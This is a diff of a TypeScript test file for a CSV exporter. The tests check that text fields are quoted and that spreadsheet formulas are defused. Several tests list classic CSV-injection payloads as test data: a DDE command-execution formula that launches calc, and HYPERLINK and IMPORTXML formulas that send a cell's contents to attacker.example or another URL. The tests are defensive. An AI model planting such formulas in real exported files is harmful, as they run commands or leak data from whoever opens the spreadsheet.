@@ -125,20 +125,26 @@ const parseCsv = (csv: string): string[][] => {
   return records;
 };
 
+/** The cells a spreadsheet that ignores quotes would see, splitting a record on `separator`. */
+const cellsSplitOn = (recordText: string, separator: string): string[] =>
+  recordText.split(separator).map((cell) => cell.replaceAll('"', '').trimStart());
+
+const FORMULA_START = /^[=+\-@\t\r\n]/;
+
 describe('toCsv', () => {
-  it('writes a header row and one CRLF-terminated record per row, in column order', () => {
+  it('writes a header row and one CRLF-terminated record per row, in column order, every text quoted', () => {
     const csv = toCsv(['b', 'a'], [{ a: 1, b: 'x' }, { a: 2 }]);
-    expect(csv).toBe('b,a\r\nx,1\r\n,2\r\n');
+    expect(csv).toBe('"b","a"\r\n"x",1\r\n,2\r\n');
   });
 
-  it('quotes fields holding a comma, a double quote, a CR or a LF, doubling the quotes', () => {
-    const values = ['Washington, D.C.', 'the "Small Group"', 'line one\r\nline two', 'cr\ronly', 'plain'];
+  it('quotes every text field, doubling the quotes, so a comma, a quote, a CR or a LF stays inside it', () => {
+    const values = ['Washington, D.C.', 'the "Small Group"', 'line one\r\nline two', 'cr\ronly', 'plain', ''];
     const csv = toCsv(
       ['v'],
       values.map((v) => ({ v })),
     );
     expect(csv).toBe(
-      'v\r\n"Washington, D.C."\r\n"the ""Small Group"""\r\n"line one\r\nline two"\r\n"cr\ronly"\r\nplain\r\n',
+      '"v"\r\n"Washington, D.C."\r\n"the ""Small Group"""\r\n"line one\r\nline two"\r\n"cr\ronly"\r\n"plain"\r\n""\r\n',
     );
     expect(parseCsv(csv).slice(1)).toEqual(values.map((v) => [v]));
   });
@@ -152,13 +158,42 @@ describe('toCsv', () => {
   });
 
   it('defuses text a spreadsheet would run as a formula, but leaves negative numbers alone', () => {
-    const hostile = ['=HYPERLINK("http://x","y")', '+1+1', '-2+3', '@SUM(A1)', '\tcmd', '\rcmd'];
+    const hostile = ['=HYPERLINK("http://x","y")', '+1+1', '-2+3', '@SUM(A1)', '\tcmd', '\rcmd', '\ncmd'];
     const csv = toCsv(['v'], [...hostile.map((v) => ({ v })), { v: -0.25 }, { v: 'a=b' }]);
     expect(parseCsv(csv).slice(1)).toEqual([...hostile.map((v) => [`'${v}`]), ['-0.25'], ['a=b']]);
   });
 
   it('defuses a formula hidden in the first element of a list', () => {
     expect(parseCsv(toCsv(['v'], [{ v: ['=1+1', 'ok'] }]))[1]).toEqual(["'=1+1; ok"]);
+  });
+
+  it('quotes a summary with a formula after a semicolon and defuses the formula there too', () => {
+    const csv = toCsv(['summary'], [{ summary: 'Progress noted;=40+2;' }]);
+    expect(csv.split('\r\n')[1]).toBe(`"Progress noted;'=40+2;"`);
+  });
+
+  it('leaves no cell starting a formula, whichever separator a spreadsheet splits on, quotes or not', () => {
+    const classic = [
+      'Progress noted;=40+2;',
+      "=cmd|' /C calc'!A0",
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      '=HYPERLINK("http://attacker.example/?d="&A1,"Error: click")',
+      '=1+2";=1+2',
+      '=1+2\'" ;,=1+2',
+      'ok, -2+3',
+      'ok|+1',
+      'ok\t@SUM(A1)',
+      'later; =IMPORTXML(CONCAT("http://x/?", A1), "//a")',
+    ];
+    const csv = toCsv(['v', 'list'], [...classic.map((v) => ({ v })), { list: ['ok', '=1+1', '-2'] }]);
+    for (const line of csv.split('\r\n').slice(1)) {
+      for (const separator of [',', ';', '\t', '|']) {
+        const dangerous = cellsSplitOn(line, separator).filter((cell) => FORMULA_START.test(cell));
+        expect(dangerous, `${JSON.stringify(line)} split on ${JSON.stringify(separator)}`).toEqual([]);
+      }
+    }
+    // Read as CSV (quotes respected), every value comes back whole, its formulas defused by a quote.
+    expect(parseCsv(csv)[2]).toEqual(["'=cmd|' /C calc'!A0", '']);
   });
 });
 
